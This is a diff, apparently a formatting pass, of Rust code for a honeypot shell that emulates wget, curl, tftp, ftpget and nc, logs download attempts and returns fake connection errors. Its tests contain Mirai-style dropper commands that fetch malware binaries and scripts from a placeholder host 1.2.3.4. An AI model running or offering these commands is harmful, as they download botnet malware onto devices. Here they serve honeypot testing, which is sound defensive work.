@@ -35,7 +35,10 @@ fn split_url(url: &str, default_port: u16) -> (String, u16, String) {
     let authority = authority.rsplit('@').next().unwrap_or(authority);
     let (host, port) = if let Some(v6) = authority.strip_prefix('[') {
         match v6.split_once(']') {
-            Some((h, p)) => (h.to_string(), p.strip_prefix(':').and_then(|p| p.parse().ok())),
+            Some((h, p)) => (
+                h.to_string(),
+                p.strip_prefix(':').and_then(|p| p.parse().ok()),
+            ),
             None => (v6.to_string(), None),
         }
     } else {
@@ -75,8 +78,12 @@ fn parse_wget(argv: &[Vec<u8>]) -> Option<Request> {
             }
             "-q" | "--quiet" => quiet = true,
             _ if a.starts_with("-O") && a.len() > 2 => dest = Some(a[2..].to_string()),
-            _ if a.starts_with("--output-document=") => dest = Some(a["--output-document=".len()..].to_string()),
-            _ if a.starts_with('-') => quiet |= a.starts_with("-q") || (a.contains('q') && !a.starts_with("--")),
+            _ if a.starts_with("--output-document=") => {
+                dest = Some(a["--output-document=".len()..].to_string())
+            }
+            _ if a.starts_with('-') => {
+                quiet |= a.starts_with("-q") || (a.contains('q') && !a.starts_with("--"))
+            }
             _ => {
                 if url.is_none() {
                     url = Some(a)
@@ -86,15 +93,32 @@ fn parse_wget(argv: &[Vec<u8>]) -> Option<Request> {
         i += 1;
     }
     let url = url?;
-    let url = if url.contains("://") { url } else { format!("http://{url}") };
-    let default_port = if url.starts_with("https://") { 443 } else if url.starts_with("ftp://") { 21 } else { 80 };
+    let url = if url.contains("://") {
+        url
+    } else {
+        format!("http://{url}")
+    };
+    let default_port = if url.starts_with("https://") {
+        443
+    } else if url.starts_with("ftp://") {
+        21
+    } else {
+        80
+    };
     let (host, port, path) = split_url(&url, default_port);
     let dest = dest.unwrap_or_else(|| file_name(&path));
     let dest = match prefix {
         Some(p) if dest != "-" => format!("{}/{}", p.trim_end_matches('/'), dest),
         _ => dest,
     };
-    Some(Request { url, tool: "wget", dest, host, port, quiet })
+    Some(Request {
+        url,
+        tool: "wget",
+        dest,
+        host,
+        port,
+        quiet,
+    })
 }
 
 fn parse_curl(argv: &[Vec<u8>]) -> Option<Request> {
@@ -111,7 +135,8 @@ fn parse_curl(argv: &[Vec<u8>]) -> Option<Request> {
                 dest = argv.get(i).map(|v| s(v)).unwrap_or(dest);
             }
             "-O" | "--remote-name" => remote_name = true,
-            "-A" | "--user-agent" | "-H" | "--header" | "-m" | "--max-time" | "-d" | "--data" | "-X" | "-e" | "-u" | "--connect-timeout" | "--retry" => i += 1,
+            "-A" | "--user-agent" | "-H" | "--header" | "-m" | "--max-time" | "-d" | "--data"
+            | "-X" | "-e" | "-u" | "--connect-timeout" | "--retry" => i += 1,
             _ if a.starts_with("--") => quiet |= a == "--silent",
             _ if a.starts_with('-') => {
                 quiet |= a.contains('s');
@@ -126,13 +151,24 @@ fn parse_curl(argv: &[Vec<u8>]) -> Option<Request> {
         i += 1;
     }
     let url = url?;
-    let url = if url.contains("://") { url } else { format!("http://{url}") };
+    let url = if url.contains("://") {
+        url
+    } else {
+        format!("http://{url}")
+    };
     let default_port = if url.starts_with("https://") { 443 } else { 80 };
     let (host, port, path) = split_url(&url, default_port);
     if remote_name {
         dest = file_name(&path);
     }
-    Some(Request { url, tool: "curl", dest, host, port, quiet })
+    Some(Request {
+        url,
+        tool: "curl",
+        dest,
+        host,
+        port,
+        quiet,
+    })
 }
 
 /// BusyBox `tftp [-g|-p] [-l LOCAL] [-r REMOTE] [-b SIZE] HOST [PORT]` and
@@ -200,7 +236,14 @@ fn parse_tftp(argv: &[Vec<u8>]) -> Option<Request> {
     } else {
         format!("tftp://{host}:{port}/{}", remote.trim_start_matches('/'))
     };
-    Some(Request { url, tool: "tftp", dest, host, port, quiet: false })
+    Some(Request {
+        url,
+        tool: "tftp",
+        dest,
+        host,
+        port,
+        quiet: false,
+    })
 }
 
 /// `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE`.
@@ -241,9 +284,23 @@ fn parse_ftpget(argv: &[Vec<u8>]) -> Option<Request> {
         (Some(u), None) => format!("{u}@"),
         _ => String::new(),
     };
-    let port_part = if port == 21 { String::new() } else { format!(":{port}") };
-    let url = format!("ftp://{creds}{host}{port_part}/{}", remote.trim_start_matches('/'));
-    Some(Request { url, tool: "ftpget", dest: local, host, port, quiet: false })
+    let port_part = if port == 21 {
+        String::new()
+    } else {
+        format!(":{port}")
+    };
+    let url = format!(
+        "ftp://{creds}{host}{port_part}/{}",
+        remote.trim_start_matches('/')
+    );
+    Some(Request {
+        url,
+        tool: "ftpget",
+        dest: local,
+        host,
+        port,
+        quiet: false,
+    })
 }
 
 /// `nc HOST PORT` (with the output redirected to a file: a download).
@@ -261,7 +318,14 @@ fn parse_nc(argv: &[Vec<u8>]) -> Option<Request> {
     }
     let host = positional.first()?.clone();
     let port: u16 = positional.get(1)?.parse().ok()?;
-    Some(Request { url: format!("tcp://{host}:{port}"), tool: "nc", dest: "-".into(), host, port, quiet: true })
+    Some(Request {
+        url: format!("tcp://{host}:{port}"),
+        tool: "nc",
+        dest: "-".into(),
+        host,
+        port,
+        quiet: true,
+    })
 }
 
 fn parse(tool: &str, argv: &[Vec<u8>]) -> Option<Request> {
@@ -297,22 +361,34 @@ pub(crate) fn wget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
     };
     record(sh, &r);
     if !r.quiet {
-        let line = format!("Connecting to {}:{} ({}:{})\n", r.host, r.port, r.host, r.port);
+        let line = format!(
+            "Connecting to {}:{} ({}:{})\n",
+            r.host, r.port, r.host, r.port
+        );
         sh.err(io, line.as_bytes());
     }
-    let msg = format!("wget: can't connect to remote host ({}): Connection timed out\n", r.host);
+    let msg = format!(
+        "wget: can't connect to remote host ({}): Connection timed out\n",
+        r.host
+    );
     sh.err(io, msg.as_bytes());
     1
 }
 
 pub(crate) fn curl(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
     let Some(r) = parse_curl(argv) else {
-        sh.err(io, b"curl: try 'curl --help' or 'curl --manual' for more information\n");
+        sh.err(
+            io,
+            b"curl: try 'curl --help' or 'curl --manual' for more information\n",
+        );
         return 2;
     };
     record(sh, &r);
     if !r.quiet {
-        let msg = format!("curl: (7) Failed to connect to {} port {}: Connection timed out\n", r.host, r.port);
+        let msg = format!(
+            "curl: (7) Failed to connect to {} port {}: Connection timed out\n",
+            r.host, r.port
+        );
         sh.err(io, msg.as_bytes());
     }
     7
@@ -334,7 +410,10 @@ pub(crate) fn ftpget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
         return 1;
     };
     record(sh, &r);
-    let msg = format!("ftpget: can't connect to remote host ({}): Connection timed out\n", r.host);
+    let msg = format!(
+        "ftpget: can't connect to remote host ({}): Connection timed out\n",
+        r.host
+    );
     sh.err(io, msg.as_bytes());
     1
 }
@@ -357,25 +436,48 @@ mod tests {
     use super::*;
 
     fn argv(s: &str) -> Vec<Vec<u8>> {
-        s.split_whitespace().map(|w| w.as_bytes().to_vec()).collect()
+        s.split_whitespace()
+            .map(|w| w.as_bytes().to_vec())
+            .collect()
     }
 
     #[test]
     fn tool_syntaxes() {
         let r = parse_wget(&argv("wget http://1.2.3.4:8080/bins/mirai.arm -O - ")).unwrap();
-        assert_eq!((r.url.as_str(), r.dest.as_str(), r.port), ("http://1.2.3.4:8080/bins/mirai.arm", "-", 8080));
+        assert_eq!(
+            (r.url.as_str(), r.dest.as_str(), r.port),
+            ("http://1.2.3.4:8080/bins/mirai.arm", "-", 8080)
+        );
         let r = parse_wget(&argv("wget -q 1.2.3.4/x.sh")).unwrap();
-        assert_eq!((r.url.as_str(), r.dest.as_str(), r.quiet), ("http://1.2.3.4/x.sh", "x.sh", true));
+        assert_eq!(
+            (r.url.as_str(), r.dest.as_str(), r.quiet),
+            ("http://1.2.3.4/x.sh", "x.sh", true)
+        );
         let r = parse_tftp(&argv("tftp -g -l dvrHelper -r mirai.arm7 1.2.3.4")).unwrap();
-        assert_eq!((r.url.as_str(), r.dest.as_str()), ("tftp://1.2.3.4/mirai.arm7", "dvrHelper"));
+        assert_eq!(
+            (r.url.as_str(), r.dest.as_str()),
+            ("tftp://1.2.3.4/mirai.arm7", "dvrHelper")
+        );
         let r = parse_tftp(&argv("tftp 1.2.3.4 -c get t8UsA2.sh")).unwrap();
-        assert_eq!((r.url.as_str(), r.dest.as_str()), ("tftp://1.2.3.4/t8UsA2.sh", "t8UsA2.sh"));
+        assert_eq!(
+            (r.url.as_str(), r.dest.as_str()),
+            ("tftp://1.2.3.4/t8UsA2.sh", "t8UsA2.sh")
+        );
         let r = parse_tftp(&argv("tftp -r x.sh -g 1.2.3.4 6969")).unwrap();
         assert_eq!(r.url, "tftp://1.2.3.4:6969/x.sh");
-        let r = parse_ftpget(&argv("ftpget -v -u anonymous -p anonymous -P 2121 1.2.3.4 ftp1.sh ftp1.sh")).unwrap();
-        assert_eq!((r.url.as_str(), r.dest.as_str()), ("ftp://anonymous:anonymous@1.2.3.4:2121/ftp1.sh", "ftp1.sh"));
+        let r = parse_ftpget(&argv(
+            "ftpget -v -u anonymous -p anonymous -P 2121 1.2.3.4 ftp1.sh ftp1.sh",
+        ))
+        .unwrap();
+        assert_eq!(
+            (r.url.as_str(), r.dest.as_str()),
+            ("ftp://anonymous:anonymous@1.2.3.4:2121/ftp1.sh", "ftp1.sh")
+        );
         let r = parse_curl(&argv("curl -sO http://[2001:db8::1]:81/a/b.sh")).unwrap();
-        assert_eq!((r.host.as_str(), r.port, r.dest.as_str()), ("2001:db8::1", 81, "b.sh"));
+        assert_eq!(
+            (r.host.as_str(), r.port, r.dest.as_str()),
+            ("2001:db8::1", 81, "b.sh")
+        );
         let r = parse_nc(&argv("nc 1.2.3.4 3912")).unwrap();
         assert_eq!(r.url, "tcp://1.2.3.4:3912");
         assert!(parse_wget(&argv("wget")).is_none());
